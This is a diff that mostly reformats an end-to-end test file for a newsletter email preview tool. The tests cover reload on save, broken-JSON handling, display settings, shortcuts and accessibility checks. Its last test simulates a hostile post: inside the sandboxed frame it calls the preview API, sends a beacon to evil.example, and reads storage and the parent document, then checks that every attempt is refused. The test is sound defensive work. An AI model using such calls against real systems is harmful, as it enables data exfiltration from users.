@@ -10,10 +10,42 @@ import { entryIn, envelope, folder, LETTER, paragraph, paragraphs, save, start, 
 
 const AXE = await readFile(join(ROOT, 'node_modules/axe-core/axe.min.js'), 'utf8')
 const link = (url: string) => ({ type: 'text', text: 'click here', marks: [{ type: 'link', attrs: { href: url } }] })
-const TWINS = { type: 'paragraph', content: [link('https://x.example/1'), { type: 'text', text: ' or ' }, link('https://x.example/2')] }
+const TWINS = {
+  type: 'paragraph',
+  content: [link('https://x.example/1'), { type: 'text', text: ' or ' }, link('https://x.example/2')],
+}
 const POLL = { type: 'poll', attrs: { id: 7 } }
-const withPoll = (...content: object[]) => ({ ...envelope('A letter', ...content), data: { polls: { 7: { id: 7, question: 'Which?', options: [{ id: 1, label: 'This', votes: 0 }, { id: 2, label: 'That', votes: 0 }], total_votes: 0, audience: 'everyone', is_published: true, published_at: '2026-02-27T09:30:00.000Z', expiry: 168, post_type: 'newsletter' } } } })
-const LONG = (first: string) => withPoll(...paragraphs(30, first), POLL, TWINS, { type: 'captionedImage', content: [{ type: 'image2', attrs: { src: 'https://assets.diptych.example/canal.jpg', alt: 'A canal', width: 1456, height: 970 } }] })
+const withPoll = (...content: object[]) => ({
+  ...envelope('A letter', ...content),
+  data: {
+    polls: {
+      7: {
+        id: 7,
+        question: 'Which?',
+        options: [
+          { id: 1, label: 'This', votes: 0 },
+          { id: 2, label: 'That', votes: 0 },
+        ],
+        total_votes: 0,
+        audience: 'everyone',
+        is_published: true,
+        published_at: '2026-02-27T09:30:00.000Z',
+        expiry: 168,
+        post_type: 'newsletter',
+      },
+    },
+  },
+})
+const LONG = (first: string) =>
+  withPoll(...paragraphs(30, first), POLL, TWINS, {
+    type: 'captionedImage',
+    content: [
+      {
+        type: 'image2',
+        attrs: { src: 'https://assets.diptych.example/canal.jpg', alt: 'A canal', width: 1456, height: 970 },
+      },
+    ],
+  })
 
 let browser: Browser
 let running: RunningPreview
@@ -25,18 +57,40 @@ const complaints: string[] = []
 beforeAll(async () => {
   directory = await folder({
     [LETTER]: LONG('First words.'),
-    'arabic.json': { ...envelope('ساعة من صوت الماء', paragraph('في بيت جدي')), post: { title: 'ساعة من صوت الماء', language: 'ar', canonical_url: 'https://lowwater.example/p/ar', post_date: '2026-03-01T08:00:00Z' } },
+    'arabic.json': {
+      ...envelope('ساعة من صوت الماء', paragraph('في بيت جدي')),
+      post: {
+        title: 'ساعة من صوت الماء',
+        language: 'ar',
+        canonical_url: 'https://lowwater.example/p/ar',
+        post_date: '2026-03-01T08:00:00Z',
+      },
+    },
     'zzz.json': envelope('Another letter', paragraph('Another text')),
     'list.ndjson': `${JSON.stringify({ email: 'ana@reader.example', name: 'Ana Ruiz', state: 'paid' })}\n`,
   })
   ;[browser, running] = await Promise.all([launch(), start(directory, { recipients: join(directory, 'list.ndjson') })])
-  context = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: 'light', reducedMotion: 'reduce', locale: 'en-GB', timezoneId: 'UTC', permissions: ['clipboard-read', 'clipboard-write'] })
-  await context.route(/^https:/, (route) => route.fulfill({ status: 200, contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="1456" height="970"/>' }))
+  context = await browser.newContext({
+    viewport: { width: 1440, height: 900 },
+    colorScheme: 'light',
+    reducedMotion: 'reduce',
+    locale: 'en-GB',
+    timezoneId: 'UTC',
+    permissions: ['clipboard-read', 'clipboard-write'],
+  })
+  await context.route(/^https:/, (route) =>
+    route.fulfill({
+      status: 200,
+      contentType: 'image/svg+xml',
+      body: '<svg xmlns="http://www.w3.org/2000/svg" width="1456" height="970"/>',
+    }),
+  )
   page = await context.newPage()
   page.on('pageerror', (error) => complaints.push(`error: ${error.message}`))
   page.on('console', (message) => {
     // Chromium says of each picture that it was not allowed; with images off that is what was asked for.
-    if ((message.type() === 'error' || message.type() === 'warning') && !message.text().includes("img-src 'none'")) complaints.push(`${message.type()}: ${message.text()}`)
+    if ((message.type() === 'error' || message.type() === 'warning') && !message.text().includes("img-src 'none'"))
+      complaints.push(`${message.type()}: ${message.text()}`)
   })
   await open()
 })
@@ -58,7 +112,8 @@ async function frameOf(title: 'Mail' | 'Web page'): Promise<Frame> {
 }
 
 const textIn = async (title: 'Mail' | 'Web page') => (await frameOf(title)).evaluate(() => document.body.innerText)
-const shows = (title: 'Mail' | 'Web page', words: string) => until(async () => (await textIn(title).catch(() => '')).includes(words))
+const shows = (title: 'Mail' | 'Web page', words: string) =>
+  until(async () => (await textIn(title).catch(() => '')).includes(words))
 const setting = (key: string) => page.evaluate((name) => new URLSearchParams(location.hash.slice(1)).get(name), key)
 const src = (title: 'Mail' | 'Web page') => frameOf(title).then((frame) => new URL(frame.url()))
 
@@ -71,7 +126,10 @@ describe('a save', () => {
       await frame.waitForLoadState('load')
       // The element that holds a text, marked as no document from the server could be.
       await frame.evaluate(() => {
-        const of = (words: string) => [...document.querySelectorAll('p, td')].findLast((element) => element.textContent?.includes(words)) as Element & { kept?: boolean }
+        const of = (words: string) =>
+          [...document.querySelectorAll('p, td')].findLast((element) =>
+            element.textContent?.includes(words),
+          ) as Element & { kept?: boolean }
         of('Paragraph 20,').kept = true
         of('Paragraph 29,').kept = true
         of('First words.').kept = true
@@ -81,17 +139,43 @@ describe('a save', () => {
     await save(directory, LETTER, LONG('Other words.'))
     for (const title of ['Mail', 'Web page'] as const) {
       await shows(title, 'Other words.')
-      const state = await (await frameOf(title)).evaluate(() => {
-        const of = (words: string) => [...document.querySelectorAll('p, td')].findLast((element) => element.textContent?.includes(words)) as Element & { kept?: boolean }
-        return { kept: [of('Paragraph 20,').kept, of('Paragraph 29,').kept], top: Math.round(scrollY), anchors: document.querySelectorAll('[id^="preview-anchor"]').length, polls: document.querySelectorAll('[data-island="poll"]').length }
+      const state = await (
+        await frameOf(title)
+      ).evaluate(() => {
+        const of = (words: string) =>
+          [...document.querySelectorAll('p, td')].findLast((element) =>
+            element.textContent?.includes(words),
+          ) as Element & { kept?: boolean }
+        return {
+          kept: [of('Paragraph 20,').kept, of('Paragraph 29,').kept],
+          top: Math.round(scrollY),
+          anchors: document.querySelectorAll('[id^="preview-anchor"]').length,
+          polls: document.querySelectorAll('[data-island="poll"]').length,
+        }
       })
       expect(state, title).toEqual({ kept: [true, true], top: 700, anchors: 0, polls: title === 'Mail' ? 0 : 1 })
     }
     // A block that comes above them moves the others along, as they are.
-    await save(directory, LETTER, withPoll(paragraph('At the very top.'), ...paragraphs(30, 'Other words.'), POLL, TWINS))
+    await save(
+      directory,
+      LETTER,
+      withPoll(paragraph('At the very top.'), ...paragraphs(30, 'Other words.'), POLL, TWINS),
+    )
     for (const title of ['Mail', 'Web page'] as const) {
       await shows(title, 'At the very top.')
-      expect(await (await frameOf(title)).evaluate(() => ([...document.querySelectorAll('p, td')].findLast((element) => element.textContent?.includes('Paragraph 29,')) as Element & { kept?: boolean }).kept), title).toBe(true)
+      expect(
+        await (
+          await frameOf(title)
+        ).evaluate(
+          () =>
+            (
+              [...document.querySelectorAll('p, td')].findLast((element) =>
+                element.textContent?.includes('Paragraph 29,'),
+              ) as Element & { kept?: boolean }
+            ).kept,
+        ),
+        title,
+      ).toBe(true)
     }
     expect(await setting('scheme')).toBe('light')
     expect(await until(() => page.textContent('.status'))).toMatch(/^Shown \d+ ms after it was saved$/)
@@ -100,7 +184,9 @@ describe('a save', () => {
   it('with broken JSON shows the place and keeps the last good mail until it is repaired', async () => {
     await save(directory, LETTER, '{"post": {\n  "title": oops }}')
     await page.waitForSelector('.broken-note')
-    expect(await page.textContent('.broken-note')).toMatch(/letter\.json, line 2, column 12.*"title": oops.*last version that was fine/s)
+    expect(await page.textContent('.broken-note')).toMatch(
+      /letter\.json, line 2, column 12.*"title": oops.*last version that was fine/s,
+    )
     expect(await textIn('Mail')).toContain('Other words.')
     await expect.poll(() => page.textContent('.posts [aria-current]')).toContain('broken')
     await save(directory, LETTER, LONG('Mended words.'))
@@ -144,25 +230,48 @@ describe('the settings', () => {
     for (const title of ['Mail', 'Web page'] as const) {
       await until(async () => (await src(title)).searchParams.get('scheme') === 'dark')
       await until(async () => {
-        const colour = await (await frameOf(title)).evaluate(() => getComputedStyle(document.body).backgroundColor).catch(() => '')
+        const colour = await (
+          await frameOf(title)
+        )
+          .evaluate(() => getComputedStyle(document.body).backgroundColor)
+          .catch(() => '')
         const [red = 255] = (/\d+/.exec(colour) ?? ['255']).map(Number)
         return red < 80
       })
     }
     await page.getByRole('button', { name: 'Images off' }).click()
     await until(async () => (await src('Mail')).searchParams.get('images') === 'off')
-    await until(async () => (await (await frameOf('Mail')).evaluate(() => document.images.length > 0 && [...document.images].every(({ naturalWidth }) => naturalWidth === 0)).catch(() => false)))
+    await until(
+      async () =>
+        await (
+          await frameOf('Mail')
+        )
+          .evaluate(
+            () => document.images.length > 0 && [...document.images].every(({ naturalWidth }) => naturalWidth === 0),
+          )
+          .catch(() => false),
+    )
     await page.getByRole('button', { name: 'Direction' }).click()
-    await until(async () => (await (await frameOf('Mail')).evaluate(() => document.querySelector('[dir]')?.getAttribute('dir')).catch(() => null)) === 'rtl')
+    await until(
+      async () =>
+        (await (
+          await frameOf('Mail')
+        )
+          .evaluate(() => document.querySelector('[dir]')?.getAttribute('dir'))
+          .catch(() => null)) === 'rtl',
+    )
     for (const width of [320, 375, 414, 600]) {
       await page.getByRole('button', { name: String(width) }).click()
-      for (const title of ['Mail', 'Web page'] as const) await until(async () => (await (await frameOf(title)).evaluate(() => innerWidth).catch(() => 0)) === width)
+      for (const title of ['Mail', 'Web page'] as const)
+        await until(async () => (await (await frameOf(title)).evaluate(() => innerWidth).catch(() => 0)) === width)
     }
     // No switch is a step in the history.
     expect(await page.evaluate(() => history.length)).toBe(steps)
     await page.reload()
     await page.waitForSelector('.panel [aria-busy="false"]')
-    expect(await page.evaluate(() => location.hash)).toBe(`#name=${LETTER}&as=anonymous&width=600&scheme=dark&images=off&direction=rtl`)
+    expect(await page.evaluate(() => location.hash)).toBe(
+      `#name=${LETTER}&as=anonymous&width=600&scheme=dark&images=off&direction=rtl`,
+    )
   })
 
   it('have keyboard shortcuts, also inside a frame, but not in a dialog', async () => {
@@ -202,9 +311,21 @@ describe('the panel beside the mail', () => {
     const frame = await frameOf('Mail')
     expect(await frame.evaluate(() => scrollY)).toBe(0)
     await page.locator('.checks .block-button', { hasText: 'click here' }).first().click()
-    await until(async () => (await frame.evaluate(() => document.getAnimations().map(({ effect }) => (effect as KeyframeEffect).target?.textContent).join())).includes('click here'))
+    await until(async () =>
+      (
+        await frame.evaluate(() =>
+          document
+            .getAnimations()
+            .map(({ effect }) => (effect as KeyframeEffect).target?.textContent)
+            .join(),
+        )
+      ).includes('click here'),
+    )
     await expect.poll(() => frame.evaluate(() => scrollY)).toBeGreaterThan(300)
-    await frame.locator('[data-block]', { hasText: 'click here' }).last().click({ position: { x: 30, y: 4 } })
+    await frame
+      .locator('[data-block]', { hasText: 'click here' })
+      .last()
+      .click({ position: { x: 30, y: 4 } })
     await page.waitForSelector('.checks li.pressed')
     await expect.poll(() => page.textContent('.checks li:first-child')).toContain('click here')
     await page.keyboard.press('4')
@@ -216,10 +337,18 @@ describe('the panel beside the mail', () => {
   it('shows the inbox row of the mail on a desktop and on a phone', async () => {
     await open()
     for (const name of ['In an inbox on a desktop', 'In an inbox on a phone']) {
-      await expect.poll(() => page.getByRole('group', { name }).textContent()).toMatch(/Low Water.*A letter.*A letter that is long enough/s)
+      await expect
+        .poll(() => page.getByRole('group', { name }).textContent())
+        .toMatch(/Low Water.*A letter.*A letter that is long enough/s)
     }
     await page.keyboard.press('k')
-    expect(await until(async () => (await page.textContent('.inbox-subject'))?.trim() === 'ساعة من صوت الماء' && page.getAttribute('.inbox-subject', 'dir'))).toBe('auto')
+    expect(
+      await until(
+        async () =>
+          (await page.textContent('.inbox-subject'))?.trim() === 'ساعة من صوت الماء' &&
+          page.getAttribute('.inbox-subject', 'dir'),
+      ),
+    ).toBe('auto')
   })
 
   it('shows all clients as thumbnails that open them', async () => {
@@ -229,7 +358,15 @@ describe('the panel beside the mail', () => {
     expect(names[0]).toBe('As sent')
     expect(names.length).toBeGreaterThan(10)
     await expect.poll(() => page.locator('.client-sheet iframe').count()).toBe(names.length)
-    await until(async () => (await (await (await page.$('.client-sheet iframe'))?.contentFrame())?.evaluate(() => document.body.innerText).catch(() => ''))?.includes('Mended words.'))
+    await until(async () =>
+      (
+        await (
+          await (await page.$('.client-sheet iframe'))?.contentFrame()
+        )
+          ?.evaluate(() => document.body.innerText)
+          .catch(() => '')
+      )?.includes('Mended words.'),
+    )
     await page.locator('.thumbnail').nth(1).click({ force: true })
     await expect.poll(async () => [await setting('view'), await setting('client')]).toEqual(['mail', 'apple-mail'])
   })
@@ -239,7 +376,11 @@ describe('the panel beside the mail', () => {
     await page.getByRole('button', { name: 'Copy HTML' }).click()
     await page.getByText('The mail’s HTML is copied').waitFor()
     const copied = await page.evaluate(() => navigator.clipboard.readText())
-    expect([/^<!doctype html/i.test(copied), copied.includes('Mended words.'), copied.includes('data-block')]).toEqual([true, true, false])
+    expect([/^<!doctype html/i.test(copied), copied.includes('Mended words.'), copied.includes('data-block')]).toEqual([
+      true,
+      true,
+      false,
+    ])
     await page.evaluate(() => navigator.clipboard.writeText(''))
     await (await frameOf('Mail')).locator('body').click({ position: { x: 3, y: 300 } })
     await page.keyboard.press('y')
@@ -253,14 +394,28 @@ describe('the panel beside the mail', () => {
 })
 
 it('the preview passes axe and fits the window in light, in dark and on a phone', async () => {
-  for (const [scheme, width, hash] of [['light', 1440, '&view=both'], ['dark', 1440, '&client=outlook-word'], ['light', 375, ''], ['dark', 1024, '&view=clients'], ['light', 1024, '&view=source']] as const) {
+  for (const [scheme, width, hash] of [
+    ['light', 1440, '&view=both'],
+    ['dark', 1440, '&client=outlook-word'],
+    ['light', 375, ''],
+    ['dark', 1024, '&view=clients'],
+    ['light', 1024, '&view=source'],
+  ] as const) {
     await page.emulateMedia({ colorScheme: scheme })
     await page.setViewportSize({ width, height: 900 })
     await open(`#name=${LETTER}${hash}`)
     await page.evaluate(AXE)
     const violations = await page.evaluate(async () => {
-      const { axe } = window as unknown as { axe: { run(options: object): Promise<{ violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] }> } }
-      return (await axe.run({ iframes: false, resultTypes: ['violations'] })).violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html} ${nodes[0]?.failureSummary}`)
+      const { axe } = window as unknown as {
+        axe: {
+          run(
+            options: object,
+          ): Promise<{ violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] }>
+        }
+      }
+      return (await axe.run({ iframes: false, resultTypes: ['violations'] })).violations.map(
+        ({ id, nodes }) => `${id}: ${nodes[0]?.html} ${nodes[0]?.failureSummary}`,
+      )
     })
     expect(violations, `${scheme} ${width} ${hash}`).toEqual([])
     expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
@@ -307,7 +462,9 @@ it('a hostile post cannot reach the preview API, its storage or the network', as
       const { href } = location
       return {
         list: await tried(async () => (await fetch(`${origin}/api/posts`)).text()),
-        send: await tried(async () => (await fetch(`${origin}/api/send?name=letter.json&to=a@b.example`, { method: 'POST' })).text()),
+        send: await tried(async () =>
+          (await fetch(`${origin}/api/send?name=letter.json&to=a@b.example`, { method: 'POST' })).text(),
+        ),
         beacon: await tried(async () => (await fetch('https://evil.example/', { mode: 'no-cors' })).type),
         storage: await tried(() => localStorage.length),
         parent: await tried(() => parent.document.title),
@@ -328,7 +485,16 @@ it('a hostile post cannot reach the preview API, its storage or the network', as
         here: href === location.href,
       }
     }, running.origin)
-    expect(reached, title).toEqual({ list: 'refused', send: 'refused', beacon: 'refused', storage: 'refused', parent: 'refused', inline: 'refused', frame: 'refused', here: true })
+    expect(reached, title).toEqual({
+      list: 'refused',
+      send: 'refused',
+      beacon: 'refused',
+      storage: 'refused',
+      parent: 'refused',
+      inline: 'refused',
+      frame: 'refused',
+      here: true,
+    })
   }
   expect(entryIn(running)?.state).toBe('fine')
 })
